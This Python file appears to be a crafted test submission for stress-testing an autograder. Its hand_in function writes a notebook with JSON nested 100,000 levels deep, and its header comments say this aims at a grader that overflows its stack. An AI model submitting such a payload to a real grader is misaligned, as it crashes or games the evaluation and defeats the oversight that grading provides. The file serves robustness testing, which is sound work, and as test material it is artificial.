# family = "crafted"
# tries = "JSON nested a hundred thousand times, where metadata should be."
# could_earn = "A grader that overflows its stack."

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from pathlib import Path


def hand_in(folder: Path, notebook: Any) -> None:
    text = json.dumps(notebook)
    (folder / "lab_1_2.ipynb").write_text(text[:-1] + ', "deep": ' + "[" * 100_000 + "]" * 100_000 + "}")
